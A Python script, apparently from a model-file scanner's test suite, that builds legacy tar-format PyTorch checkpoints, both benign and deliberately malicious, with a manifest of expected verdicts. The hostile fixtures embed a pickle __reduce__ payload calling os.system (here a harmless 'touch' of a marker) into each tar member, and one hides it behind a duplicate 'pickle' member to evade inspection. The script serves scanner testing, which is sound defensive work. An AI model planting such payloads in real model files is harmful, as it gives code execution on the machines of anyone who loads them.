#!/usr/bin/python3
"""Builds checkpoints in PyTorch's oldest (tar) format, the way torch.serialization.legacy_load
reads them: members `storages`, `tensors` and `pickle` (torch 1.13 can still load them, and
tries this loader first for any file tarfile accepts). torch no longer writes the format, so
the files are assembled here from its reader's layout; the benign ones are checked with
torch.load(weights_only=True). Hostile ones hide a harmless `touch MARKER` payload in each
member in turn; they are never loaded.

Usage: gen_tar_checkpoints.py OUTDIR MARKER   (writes OUTDIR/manifest.json)
"""
import hashlib
import io
import json
import os
import pickle
import struct
import sys
import tarfile

import torch

STORAGE = {torch.float32: torch.FloatStorage, torch.float64: torch.DoubleStorage,
           torch.int64: torch.LongStorage, torch.int32: torch.IntStorage,
           torch.int16: torch.ShortStorage, torch.uint8: torch.ByteStorage,
           torch.bool: torch.BoolStorage, torch.float16: torch.HalfStorage}
TENSOR = {torch.float32: torch.FloatTensor, torch.float64: torch.DoubleTensor,
          torch.int64: torch.LongTensor, torch.int32: torch.IntTensor,
          torch.int16: torch.ShortTensor, torch.uint8: torch.ByteTensor,
          torch.bool: torch.BoolTensor, torch.float16: torch.HalfTensor}
ST_NAME = {torch.float32: "F32", torch.float64: "F64", torch.int64: "I64", torch.int32: "I32",
           torch.int16: "I16", torch.uint8: "U8", torch.bool: "BOOL", torch.float16: "F16"}


class Ref:
    """Stands for a tensor in the `pickle` member: pickled as a persistent id."""

    def __init__(self, key):
        self.key = key


class RefPickler(pickle.Pickler):
    def persistent_id(self, obj):
        # strings: torch 1.13's weights_only BINPERSID rejects ints, legacy_load int()s them
        return str(obj.key) if isinstance(obj, Ref) else None


class Payload:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, ("touch " + self.marker,))


def member(tar, name, data):
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))


def build(tensors, proto=2, payload=None, where=None, duplicate_pickle=False):
    """tensors: name -> tensor. payload/where put a Payload into one member's pickles."""
    st = io.BytesIO()
    pickle.dump(payload if where == "storages-count" else len(tensors), st, protocol=proto)
    for i, t in enumerate(tensors.values()):
        t = t.contiguous()
        entry = (i, "cpu", STORAGE[t.dtype])
        pickle.dump((i, payload, STORAGE[t.dtype]) if where == "storages-entry" else entry, st,
                    protocol=proto)
        st.write(struct.pack("<q", t.numel()))
        st.write(t.numpy().tobytes())
    pickle.dump([], st, protocol=proto)
    ts = io.BytesIO()
    pickle.dump(payload if where == "tensors-count" else len(tensors), ts, protocol=proto)
    for i, t in enumerate(tensors.values()):
        pickle.dump((100 + i, i, TENSOR[t.dtype]), ts, protocol=proto)
        ts.write(struct.pack("<i", t.dim()) + b"\0" * 4)
        ts.write(struct.pack("<%dq" % t.dim(), *t.shape))
        ts.write(struct.pack("<%dq" % t.dim(), *t.contiguous().stride()))
        ts.write(struct.pack("<q", 0))
    pk = io.BytesIO()
    obj = {name: Ref(100 + i) for i, name in enumerate(tensors)}
    if where == "pickle":
        obj["evil"] = payload
    RefPickler(pk, protocol=proto).dump(obj)
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        member(tar, "sys_info", pickle.dumps({"protocol_version": 1000, "little_endian": True}))
        member(tar, "storages", st.getvalue())
        member(tar, "tensors", ts.getvalue())
        if duplicate_pickle:  # tarfile (torch) reads the LAST member of a name
            benign = io.BytesIO()
            RefPickler(benign, protocol=proto).dump({})
            member(tar, "pickle", benign.getvalue())
        member(tar, "pickle", pk.getvalue())
    return out.getvalue()


def digest(t):
    return hashlib.sha256(t.contiguous().numpy().tobytes()).hexdigest()


def main(outdir, marker):
    os.makedirs(outdir, exist_ok=True)
    torch.manual_seed(0)
    manifest = {}
    sets = {
        "floats": {"w": torch.randn(3, 4), "b": torch.randn(4)},
        "mixed": {"f64": torch.randn(2, 2, dtype=torch.float64),
                  "i64": torch.arange(6).reshape(2, 3), "i16": torch.arange(5, dtype=torch.int16),
                  "u8": torch.arange(7, dtype=torch.uint8), "flag": torch.tensor([True, False]),
                  "half": torch.randn(3).half(), "scalar": torch.tensor(2.5)},
        "empty": {"e": torch.zeros(0), "z": torch.zeros(2, 0)},
    }
    for name, tensors in sets.items():
        for proto in (2, 4):
            fname = "y_tar_%s_p%d.pt" % (name, proto)
            data = build(tensors, proto)
            with open(os.path.join(outdir, fname), "wb") as f:
                f.write(data)
            # the real loader, restricted, on our own benign file: it must read what we wrote
            # (torch 1.13's weights_only unpickler knows no FRAME, so protocol 2 only)
            if proto == 2:
                loaded = torch.load(os.path.join(outdir, fname), weights_only=True)
                assert set(loaded) == set(tensors), fname
                for k, t in tensors.items():
                    assert torch.equal(loaded[k], t), (fname, k)
            manifest[fname] = {"expect": "safe", "tensors": {
                k: {"dtype": ST_NAME[t.dtype], "shape": list(t.shape), "sha256": digest(t)}
                for k, t in tensors.items()}}
    for where in ("storages-count", "storages-entry", "tensors-count", "pickle"):
        fname = "n_tar_payload_in_%s.pt" % where
        with open(os.path.join(outdir, fname), "wb") as f:
            f.write(build(sets["floats"], 2, Payload(marker), where))
        manifest[fname] = {"expect": "unsafe", "global": "posix.system"}
    fname = "n_tar_duplicate_pickle_member.pt"
    with open(os.path.join(outdir, fname), "wb") as f:
        f.write(build(sets["floats"], 2, Payload(marker), "pickle", duplicate_pickle=True))
    manifest[fname] = {"expect": "unsafe", "global": "posix.system", "rule": "duplicate-member"}
    good = build(sets["floats"], 2)
    # cut inside a header, inside the storage records, inside the `pickle` member
    for cut in (1200, good.index(b"storages") + 512 + 80, good.rindex(b"pickle\0") + 512 + 10):
        fname = "n_tar_truncated_%d.pt" % cut
        with open(os.path.join(outdir, fname), "wb") as f:
            f.write(good[:cut])
        manifest[fname] = {"expect": "invalid"}
    with open(os.path.join(outdir, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1, sort_keys=True)


if __name__ == "__main__":
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    main(sys.argv[1], sys.argv[2])
